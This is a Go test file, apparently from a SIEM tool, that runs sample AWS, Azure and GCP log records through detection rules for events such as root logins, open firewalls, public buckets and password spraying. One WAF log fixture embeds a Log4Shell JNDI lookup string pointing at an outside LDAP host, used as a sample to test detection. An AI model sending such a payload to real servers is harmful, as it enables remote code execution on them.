package rules_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/siempipe/siempipe/internal/detect"
	"github.com/siempipe/siempipe/internal/format"
	"github.com/siempipe/siempipe/internal/record"
	"github.com/siempipe/siempipe/rules"
)

// TestRawRecords holds records as vendors write them, parsed as in the siem processor, against the rules: the rules' own
// tests begin behind the parser.
func TestRawRecords(t *testing.T) {
	cloudTrail := func(members string) string {
		return `{"eventVersion":"1.09","eventTime":"2024-05-01T10:00:00Z","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.7","eventID":"e-1","eventType":"AwsApiCall","recipientAccountId":"111122223333",` + members + `}`
	}
	const flowHeader = "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status"
	tests := []struct {
		format, fields, raw string
		matches             []string
		provider, account   string
	}{
		{"aws.cloudtrail", "", cloudTrail(`"eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","userIdentity":{"type":"Root","arn":"arn:aws:iam::111122223333:root"},"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"No"}`),
			[]string{"AWS.CloudTrail.Root.Console.Login"}, "AWS", "111122223333"},
		{"aws.cloudtrail", "", cloudTrail(`"eventSource":"ec2.amazonaws.com","eventName":"AuthorizeSecurityGroupIngress","userIdentity":{"type":"IAMUser"},"requestParameters":{"groupId":"sg-1","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":22,"toPort":22,"groups":{},"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]},"ipv6Ranges":{},"prefixListIds":{}}]}},"responseElements":{"_return":true}`),
			[]string{"AWS.CloudTrail.SecurityGroup.Open"}, "AWS", "111122223333"},
		{"aws.cloudtrail", "", cloudTrail(`"eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","errorCode":"AccessDenied","userIdentity":{"type":"IAMUser","userName":"eve","arn":"arn:aws:iam::111122223333:user/eve"},"requestParameters":{"userName":"alice"}`),
			[]string{"AWS.CloudTrail.AccessDenied.Many"}, "AWS", "111122223333"},
		{"aws.cloudtrail", "", cloudTrail(`"eventSource":"s3.amazonaws.com","eventName":"PutBucketPolicy","userIdentity":{"type":"IAMUser"},"requestParameters":{"bucketPolicy":{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::acme/*"}]},"bucketName":"acme","Host":"acme.s3.amazonaws.com","policy":""}`),
			[]string{"AWS.CloudTrail.S3.Bucket.Made.Public"}, "AWS", "111122223333"},
		{"aws.guardduty", "", `{"schemaVersion":"2.0","accountId":"111122223333","region":"us-east-1","partition":"aws","id":"f-1","arn":"arn:aws:guardduty:us-east-1:111122223333:detector/d/finding/f-1","type":"UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS","resource":{"resourceType":"AccessKey","accessKeyDetails":{"userName":"web"}},"service":{"serviceName":"guardduty","archived":false,"count":1},"severity":8,"createdAt":"2024-05-01T10:00:00Z","updatedAt":"2024-05-01T10:00:00Z","title":"T","description":"D"}`,
			[]string{"AWS.GuardDuty.Credential.Exfiltration", "AWS.GuardDuty.High.Severity"}, "AWS", "111122223333"},
		{"aws.vpc_flow", flowHeader, "2 111122223333 eni-1235b8ca123456789 198.51.100.7 172.31.16.21 52641 22 6 20 4249 1418530010 1418530070 ACCEPT OK",
			[]string{"AWS.VPCFlow.Remote.Admin.From.Internet"}, "AWS", "111122223333"},
		{"aws.vpc_flow", flowHeader, "2 111122223333 eni-1235b8ca123456789 198.51.100.7 172.31.16.21 52641 23 6 1 40 1418530010 1418530070 REJECT OK",
			[]string{"AWS.VPCFlow.Port.Scan"}, "AWS", "111122223333"},
		{"aws.vpc_flow", flowHeader, "2 111122223333 eni-1235b8ca123456789 - - - - - - - 1431280876 1431280934 - NODATA", nil, "", ""},
		{"aws.s3_server_access", "", `79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be awsexamplebucket [06/Feb/2019:00:00:38 +0000] 192.0.2.3 - 3E57427F3EXAMPLE REST.GET.OBJECT a.csv "GET /awsexamplebucket/a.csv HTTP/1.1" 200 - 113 113 7 6 "-" "curl/8" - s9lzHYrFp76ZVxRcpX9+5cjAnEH2ROuNkd2BHfIa6UkFVdtjf5mKR3/eTPFvsiP/XV/VLi31234= - ECDHE-RSA-AES128-GCM-SHA256 - awsexamplebucket.s3.amazonaws.com TLSV1.2`,
			[]string{"AWS.S3.Anonymous.Read"}, "AWS", ""},
		{"aws.s3_server_access", "", `79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be awsexamplebucket [06/Feb/2019:00:00:38 +0000] 192.0.2.3 - 3E57427F3EXAMPLE REST.GET.OBJECT a.csv "GET /awsexamplebucket/a.csv HTTP/1.1" 403 AccessDenied 243 - 7 - "-" "curl/8" - s9lzHYrFp76ZVxRcpX9+5cjAnEH2ROuNkd2BHfIa6UkFVdtjf5mKR3/eTPFvsiP/XV/VLi31234= - ECDHE-RSA-AES128-GCM-SHA256 - awsexamplebucket.s3.amazonaws.com TLSV1.2`,
			[]string{"AWS.S3.AccessDenied.Many"}, "AWS", ""},
		{"aws.waf_web_acl", "", `{"timestamp":1576280412771,"formatVersion":1,"webaclId":"arn:aws:wafv2:ap-southeast-2:111122223333:regional/webacl/STMTest/1EXAMPLE-2ARN-3ARN-4ARN-123456EXAMPLE","terminatingRuleId":"STMTest_SQLi_XSS","terminatingRuleType":"REGULAR","action":"BLOCK","terminatingRuleMatchDetails":[],"httpSourceName":"-","httpSourceId":"-","ruleGroupList":[],"rateBasedRuleList":[],"nonTerminatingMatchingRules":[],"httpRequest":{"clientIp":"198.51.100.7","country":"AU","headers":[{"name":"User-Agent","value":"${jndi:ldap://198.51.100.9/a}"}],"uri":"/","args":"","httpVersion":"HTTP/1.1","httpMethod":"GET","requestId":"rid"}}`,
			[]string{"AWS.WAF.Blocked.Many", "AWS.WAF.Log4Shell"}, "AWS", "111122223333"},
		{"azure.signin", "", `{"time":"2019-10-18T09:45:48.0729893Z","resourceId":"/tenants/t-1/providers/Microsoft.aadiam","operationName":"Sign-in activity","category":"SignInLogs","tenantId":"t-1","resultType":"50126","correlationId":"c","properties":{"userPrincipalName":"alice@example.com","ipAddress":"203.0.113.5","status":{"errorCode":50126}}}`,
			[]string{"Azure.Audit.ManyFailedSignIns", "Azure.SignIn.Password.Spray"}, "AZURE", "t-1"},
		{"azure.signin", "", `{"time":"2019-10-18T09:45:48Z","operationName":"Sign-in activity","category":"SignInLogs","tenantId":"t-1","resultType":0,"properties":{"clientAppUsed":"IMAP4","riskLevelDuringSignIn":"high","riskState":"atRisk","status":{"errorCode":0}}}`,
			[]string{"Azure.SignIn.High.Risk", "Azure.SignIn.Legacy.Authentication"}, "AZURE", "t-1"},
		{"gcp.audit", "", `{"insertId":"i","logName":"organizations/123456789012/logs/cloudaudit.googleapis.com%2Factivity","receiveTimestamp":"2024-05-01T10:00:01Z","timestamp":"2024-05-01T10:00:00Z","resource":{"type":"audited_resource","labels":{}},"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","serviceName":"iam.googleapis.com","methodName":"google.iam.admin.v1.WorkforcePools.CreateWorkforcePool","authenticationInfo":{"principalEmail":"eve@example.com"},"request":{"workforcePool":{"name":"locations/global/workforcePools/p"}}}}`,
			[]string{"GCP.Workforce.Pool.Created.or.Updated"}, "GCP", "123456789012"},
		{"gcp.audit", "", `{"insertId":"i","logName":"projects/acme/logs/cloudaudit.googleapis.com%2Factivity","receiveTimestamp":"2024-05-01T10:00:01Z","timestamp":"2024-05-01T10:00:00Z","resource":{"type":"gce_firewall_rule","labels":{"project_id":"acme"}},"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","serviceName":"compute.googleapis.com","methodName":"v1.compute.firewalls.insert","resourceName":"projects/acme/global/firewalls/all","request":{"direction":"INGRESS","sourceRanges":["0.0.0.0/0"]}}}`,
			[]string{"GCP.Firewall.Open"}, "GCP", "acme"},
	}
	loader := detect.Loader{Patterns: []string{detect.BuiltinName}, Builtin: rules.FS}
	set, _, _, err := loader.Load()
	if err != nil {
		t.Fatal(err)
	}
	parser, err := format.NewParser(format.Options{Format: format.Auto})
	if err != nil {
		t.Fatal(err)
	}
	for _, test := range tests {
		var rec record.Record
		parser.ParseIn(test.raw, format.Context{Format: test.format, Fields: test.fields, Received: time.Now()}, &rec)
		if rec.EventType == record.Invalid {
			t.Errorf("%s: %s", test.raw, rec.Error)
			continue
		}
		detector := detect.NewDetector(detect.NewWindows(detect.Limits{}, time.Now))
		detector.Use(set)
		worker := detector.NewWorker()
		var got []string
		for i := range 50 { // reach every threshold but those of distinct values
			rec.ID = strings.Repeat("x", i+1)
			for _, m := range worker.Match(&rec) {
				if i == 0 {
					got = append(got, m.Rule.Key())
				}
				batch := detector.Begin()
				var finding record.Record
				if batch.Add(&m, &finding) {
					for name, want := range map[string]string{"provider": test.provider, "account_id": test.account} {
						if want != "" && !strings.Contains(finding.Body, `"`+name+`":"`+want+`"`) {
							t.Errorf("%s: no %s %s in %s", m.Rule.Key(), name, want, finding.Body)
						}
					}
					if len(m.Errors) > 0 {
						t.Errorf("%s: %v", m.Rule.Key(), m.Errors)
					}
				}
				batch.Commit(nil)
			}
		}
		slices.Sort(got)
		if !slices.Equal(got, test.matches) {
			t.Errorf("%v, want %v: %s", got, test.matches, rec.Body)
		}
	}
}
